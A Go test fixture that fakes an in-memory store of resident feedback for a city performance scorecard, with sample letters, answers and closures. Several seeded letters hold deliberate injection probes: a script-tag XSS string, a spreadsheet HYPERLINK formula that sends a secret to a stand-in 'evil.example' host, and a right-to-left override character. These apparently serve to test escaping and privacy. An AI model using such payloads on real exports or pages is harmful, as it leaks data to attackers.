package scorecardtest

import (
	"context"
	"slices"
	"sync"
	"time"

	"citystat/kpi"
)

// The references of [NewFeedback]: of one that waits, of one that was answered, and of one that was closed.
const (
	Waiting  = "K7QX-0M4T-9ZRB"
	Answered = "3HWF-6C2N-PV8E"
	Closed   = "0Q9D-TT5R-J1ZA"
)

// Feedback is what residents of Harborview wrote, and what the city answered. It keeps everything in memory, by the rules of the ledger. Its
// fields may be changed before it is used; it is safe for many goroutines afterwards.
type Feedback struct {
	Letters []kpi.Feedback // as they came
	Err     error          // what every question is answered with, if it is not nil

	mu      sync.Mutex
	version int64
}

// NewFeedback returns feedback in every state, in several languages. What only the staff may read holds [Secret].
func NewFeedback() *Feedback {
	at := func(days int) time.Time { return Now.AddDate(0, 0, -days).Add(-37 * time.Minute) }
	works := func(days int, heard, said string) *kpi.FeedbackAnswer {
		return &kpi.FeedbackAnswer{Heard: heard, Said: said, Lang: kpi.English, By: "Department of Public Works", At: at(days)}
	}
	s := &Feedback{version: 4, Letters: []kpi.Feedback{
		{Reference: "9B4M-XW0K-2F7S", Received: at(61), Lang: kpi.English, Indicator: "street-lights-on-time", Text: Secret + " old", Answer: works(55,
			"The map shows Old Harbor without street lights.", "The lights of the quay were missing in the list of the harbor office. They are counted since January.")},
		{Reference: Answered, Received: at(40), Lang: kpi.Spanish, About: "/indicators/street-lights-on-time", Indicator: "street-lights-on-time", District: "mill-river", Text: Secret + " dark", Answer: works(33,
			"A light in Mill River was reported three times and counted as repaired each time.",
			"A repair that fails again within 30 days now counts as late.\nThe rule is on this page, and the numbers since July 2025 were computed again.")},
		{Reference: Closed, Received: at(30), Lang: kpi.French, Text: Secret + " advertising", Closed: true, Reason: Secret + " not about the city"},
		{Reference: "ZD1T-58NC-R6GH", Received: at(28), Lang: kpi.Portuguese, Indicator: "repair-cost", Text: Secret + " cost", Answer: &kpi.FeedbackAnswer{
			Heard: "O custo por reparo não diz se inclui as peças.", Said: "Inclui. A explicação agora diz isso.", Lang: kpi.Portuguese, By: "Departamento de Obras Públicas", At: at(20)}},
		{Reference: "7KEV-Q3Y0-MB2P", Received: at(15), Lang: kpi.English, Text: Secret + " whole", Answer: works(9, "The scorecard is hard to read on a phone.", "The lists now stand one below the other.")},
		{Reference: Waiting, Received: at(12), Lang: kpi.English, About: "/indicators/street-lights-on-time", Indicator: "street-lights-on-time", District: "old-harbor",
			Text: Secret + "\nThe light at 14 Quay Street has been out since January.\n\nSee https://example.org/photo and <script>alert(1)</script>", Email: "rosa.diaz+" + Secret + "@example.org"},
		{Reference: "C8JS-44WA-0XNT", Received: at(2), Lang: kpi.Spanish, About: "/changes", Text: "=HYPERLINK(\"https://evil.example/" + Secret + "\")"},
		{Reference: "M5PR-ZG17-DKQ9", Received: Now.Add(-95 * time.Minute), Lang: kpi.French, Text: "مرحبا \u202eabc " + Secret + " Bonjour, je ne trouve pas mon quartier."},
	}}
	for i := range s.Letters {
		f := &s.Letters[i]
		switch {
		case f.Answer != nil:
			f.Ended = f.Answer.At
		case f.Closed:
			f.Ended = f.Received.Add(20 * time.Hour)
		}
	}
	return s
}

// References returns the references of all feedback, as it came.
func (s *Feedback) References() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	var list []string
	for i := range s.Letters {
		list = append(list, s.Letters[i].Reference)
	}
	return list
}

// SubmitFeedback keeps feedback.
func (s *Feedback) SubmitFeedback(_ context.Context, f kpi.Feedback) (string, error) {
	if err := f.Check(); err != nil {
		return "", err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	f.Reference = kpi.Reference(uint64(len(s.Letters)) * 0x9e3779b97f4a7c15)
	s.Letters = append(s.Letters, f)
	return f.Reference, s.Err
}

// FeedbackStatus returns what whoever has the reference may know.
func (s *Feedback) FeedbackStatus(_ context.Context, reference string) (kpi.Feedback, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if i := s.find(reference); i >= 0 {
		return s.Letters[i].Public(), s.Err
	}
	return kpi.Feedback{}, kpi.Errorf(kpi.CodeNotFound, "there is no feedback %q", reference)
}

func (s *Feedback) find(reference string) int {
	return slices.IndexFunc(s.Letters, func(f kpi.Feedback) bool { return f.Reference == reference })
}

// FeedbackAnswers returns public answers, the newest first.
func (s *Feedback) FeedbackAnswers(_ context.Context, indicator string, offset, limit int) ([]kpi.Feedback, int, error) {
	list, total := s.where(func(f *kpi.Feedback) bool { return f.Answer != nil && (indicator == "" || f.Indicator == indicator) }, true, offset, limit)
	for i := range list {
		list[i] = list[i].Public()
	}
	return list, total, s.Err
}

// where returns a part of the feedback that fits.
func (s *Feedback) where(fits func(*kpi.Feedback) bool, newest bool, offset, limit int) ([]kpi.Feedback, int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	var list []kpi.Feedback
	for i := range s.Letters {
		if fits(&s.Letters[i]) {
			list = append(list, s.Letters[i])
		}
	}
	if newest {
		slices.SortStableFunc(list, func(a, b kpi.Feedback) int { return b.Ended.Compare(a.Ended) })
	}
	from := min(offset, len(list))
	to := len(list)
	if limit > 0 {
		to = min(from+limit, to)
	}
	return slices.Clone(list[from:to]), len(list)
}

// AnswersVersion goes up with every answer.
func (s *Feedback) AnswersVersion() int64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.version
}

// Feedback returns feedback with all that is known of it.
func (s *Feedback) Feedback(_ context.Context, q kpi.FeedbackQuery) ([]kpi.Feedback, int, error) {
	list, total := s.where(func(f *kpi.Feedback) bool {
		return (q.State == "" || f.State() == q.State) && (q.Reference == "" || f.Reference == q.Reference)
	}, q.State == kpi.FeedbackAnswered || q.State == kpi.FeedbackClosed, q.Offset, q.Limit)
	return list, total, s.Err
}

// AnswerFeedback answers feedback once.
func (s *Feedback) AnswerFeedback(_ context.Context, reference string, a kpi.FeedbackAnswer) error {
	if err := a.Check(); err != nil {
		return err
	}
	return s.end(reference, func(f *kpi.Feedback) { f.Answer, f.Ended = &a, a.At }, 1)
}

// CloseFeedback closes feedback once.
func (s *Feedback) CloseFeedback(_ context.Context, reference, reason string, at time.Time) error {
	return s.end(reference, func(f *kpi.Feedback) { f.Closed, f.Reason, f.Ended = true, reason, at }, 0)
}

func (s *Feedback) end(reference string, how func(*kpi.Feedback), answers int64) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	i := s.find(reference)
	if i < 0 {
		return kpi.Errorf(kpi.CodeNotFound, "there is no feedback %q", reference)
	}
	if s.Letters[i].State() != kpi.FeedbackOpen {
		return kpi.Errorf(kpi.CodeConflict, "feedback %s was %s already", reference, s.Letters[i].State())
	}
	how(&s.Letters[i])
	s.Letters[i].Email = ""
	s.version += answers
	return s.Err
}

// CountFeedback returns how many there are in each state.
func (s *Feedback) CountFeedback(context.Context) (map[kpi.FeedbackState]int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	counts := map[kpi.FeedbackState]int{}
	for i := range s.Letters {
		counts[s.Letters[i].State()]++
	}
	return counts, s.Err
}
